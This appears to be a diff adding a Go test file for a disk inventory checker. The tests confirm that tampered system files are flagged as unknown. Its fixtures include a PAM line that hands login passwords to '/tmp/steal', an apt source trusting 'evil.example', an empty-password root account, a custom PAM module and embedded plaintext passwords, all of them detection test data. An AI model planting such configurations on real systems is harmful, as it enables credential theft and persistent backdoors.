@@ -1,0 +1,60 @@
+package inventory
+
+import (
+	"strings"
+	"testing"
+
+	"kamino.dev/kamino/agent/disk/disktest"
+)
+
+// TestChecks: what the table says of generated files is looked at, also where a check is a matter of the place's name.
+func TestChecks(t *testing.T) {
+	key := "\x99\x00\x04abcd\xb4\x03bob\x89\x00\x02xy"
+	armor := "key of an archive\n-----BEGIN PGP PUBLIC KEY BLOCK-----\nVersion: 1\n\nmQAEYWJjZLQDYm9iiQACeHk=\n=AAAA\n-----END PGP PUBLIC KEY BLOCK-----\n"
+	for name, c := range map[string]struct{ known, unknown []string }{
+		"etc/passwd": {[]string{"root:x:0:0:root:/root:/bin/bash\n"}, []string{"root::0:0:root:/root:/bin/bash\n", "root:x:0:0::/:\n# password S0mmerRegen\n"}},
+		"etc/shadow": {[]string{"root:!:19000:0:99999:7:::\nbin:*:1::::::\n"}, []string{"root::19000:0:99999:7:::\n", "root:$6$a$b:1::::::\n"}},
+		"etc/group":  {[]string{"sudo:x:27:\nusers::100:\n"}, []string{"sudo:x:27:\n# password S0mmerRegen\n"}},
+		"etc/pam.d/common-auth": {[]string{"auth [success=1 default=ignore] pam_unix.so nullok try_first_pass\n"},
+			[]string{"auth required pam_exec.so expose_authtok /tmp/steal\n", "auth required /srv/pam_mine.so\n", "auth required pam_mysql.so passwd=S0mmerRegen\n"}},
+		"etc/apt/sources.list.d/x.list": {[]string{"deb [signed-by=/usr/share/keyrings/x.gpg] https://deb.debian.org/debian bookworm main\n"},
+			[]string{"deb https://apt.corp/pool/6f1d1c0e2f3a4a7b9a550c2b7e8d9f10/ stable main\n", "deb [trusted=yes] http://evil.example/ ./\n", "deb https://u:p@x/ ./\n"}},
+		"etc/apt/sources.list.d/x.sources":  {[]string{"Types: deb\nURIs: http://x/\n"}, []string{"Types: deb\nURIs: http://x/\nTrusted: yes\n"}},
+		"etc/yum.repos.d/x.repo":            {[]string{"[x]\nbaseurl=https://x\n"}, []string{"[x]\nbaseurl=https://x\nusername=svc\n", "[x]\nproxy_passwd=S0mmerRegen1987\n"}},
+		"etc/apt/keyrings/x":                {[]string{key, key + key, armor}, []string{"\x99\x01secret bytes that are no key at all", key + "more", "\x95" + key[1:], strings.Replace(armor, "mQAE", "lQAE", 1)}},
+		"usr/share/keyrings/x.gpg":          {[]string{key}, []string{"\xc6S0mmerRegen1987"}},
+		"etc/ssl/certs/ca-certificates.crt": {[]string{"# x\n-----BEGIN CERTIFICATE-----\nMII=\n-----END CERTIFICATE-----\n"}, []string{"S0mmerRegen1987 but no header\n"}},
+		"etc/ca-certificates.conf.secret":   {nil, []string{"S0mmerRegen1987\n"}},
+		"etc/authselect/custom.key":         {nil, []string{"S0mmerRegen1987\n"}},
+		"boot/grub/custom.cfg":              {nil, []string{"password root S0mmerRegen1987\n"}},
+		"boot/grub/grub.cfg":                {[]string{"menuentry 'x' {\n}\n"}, []string{"password root S0mmerRegen1987\n", "  password_pbkdf2 root grub.pbkdf2\n"}},
+		"etc/default/locale":                {[]string{"LANG=C.UTF-8\nLC_ALL=C\n"}, []string{"LANG=C\nTOKEN=S0mmerRegen1987\n"}},
+		"etc/resolv.conf":                   {[]string{"nameserver 10.0.0.10\n"}, []string{"search corp.internal # S0mmerRegen1987\n"}},
+		"var/cache/debconf/config.dat": {[]string{"Name: tzdata/Areas\nValue: Etc\n\nName: x/password\nValue: \n\nName: base-passwd/group\nValue: yes\n\nName: x/password-again\nValue: false\n"},
+			[]string{"Name: mysql-server/root_password\nTemplate: x\nValue: S0mmerRegen1987\n"}},
+		"var/lib/docker/image/overlay2/distribution/x": {nil, []string{"S0mmerRegen1987"}},
+		"var/lib/dpkg/info/x.key":                      {nil, []string{"S0mmerRegen1987"}},
+	} {
+		for want, texts := range [][]string{c.known, c.unknown} {
+			for _, text := range texts {
+				r, err := Look(t.Context(), disktest.New(t, map[string]string{name: text}), Options{})
+				if err != nil || len(r.Unknown) != want {
+					t.Errorf("/%s with %q: unknown %v, %v", name, text, r.Unknown, err)
+				}
+			}
+		}
+	}
+}
+
+// FuzzPublicKeys: no bytes break the reader of packets.
+func FuzzPublicKeys(f *testing.F) {
+	for _, seed := range []string{"\x99\x00\x04abcd", "\xc6\xff\x00\x00\x00\x01a", "\xc6\xe0", "\x9b", "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n-----END PGP PUBLIC KEY BLOCK-----"} {
+		f.Add([]byte(seed))
+	}
+	f.Fuzz(func(t *testing.T, data []byte) {
+		if packets(data) && len(data) > 0 && data[0]&0x80 == 0 {
+			t.Errorf("%x is no packet", data)
+		}
+		_ = publicKeys(nil, "", data)
+	})
+}
